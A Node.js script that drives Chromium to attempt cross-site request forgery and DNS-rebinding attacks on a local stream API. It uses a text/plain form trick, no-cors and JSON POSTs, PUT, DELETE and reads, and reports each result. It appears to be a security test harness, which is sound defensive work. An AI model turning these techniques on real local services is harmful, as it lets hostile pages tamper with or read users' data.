// Opens a page of another site in Chromium, which tries to make a stream and to
// read all streams, and prints what each attempt came to, as JSON:
// node attack.mjs CHROMIUM PAGE API STREAM [HOST]
//
// With HOST, the browser resolves that name to this machine, and the page is one
// of http://HOST:port of the API: as after DNS rebinding.
import { launch } from './browser.mjs';

const [executablePath, pageURL, api, stream, host] = process.argv.slice(2);
const browser = await launch(executablePath, ...(host ? [`--host-resolver-rules=MAP ${host} 127.0.0.1`] : []));
const page = await browser.newPage();
let target = api;
if (host) {
  const rebound = new URL(api);
  rebound.hostname = host;
  target = rebound.origin;
  await page.goto(target + '/ping'); // whatever it answers is of that origin
} else {
  await page.goto(pageURL);
}
const told = await page.evaluate(async ([target, stream]) => {
  const attempt = (path, options) => fetch(target + path, options).then(
    async answer => `${answer.type} ${answer.status} ${await answer.text()}`, String);
  const form = document.createElement('form');
  form.action = target + '/streams/form';
  form.method = 'POST';
  form.enctype = 'text/plain';
  form.target = 'frame';
  const frame = document.createElement('iframe');
  frame.name = 'frame';
  const input = document.createElement('input');
  input.name = stream + '#'; // a comment, and in it the = of forms
  form.append(input);
  document.body.append(frame, form);
  const loaded = new Promise(done => frame.addEventListener('load', done, { once: true }));
  form.submit();
  await loaded;
  return {
    simple: await attempt('/streams/simple', { method: 'POST', mode: 'no-cors', headers: { 'Content-Type': 'text/plain' }, body: stream }),
    json: await attempt('/streams/json', { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: stream }),
    put: await attempt('/streams/mine', { method: 'PUT', body: stream }),
    remove: await attempt('/streams/mine', { method: 'DELETE' }),
    read: await attempt('/streams/mine', {}),
  };
}, [target, stream]);
console.log(JSON.stringify(told));
await browser.close();
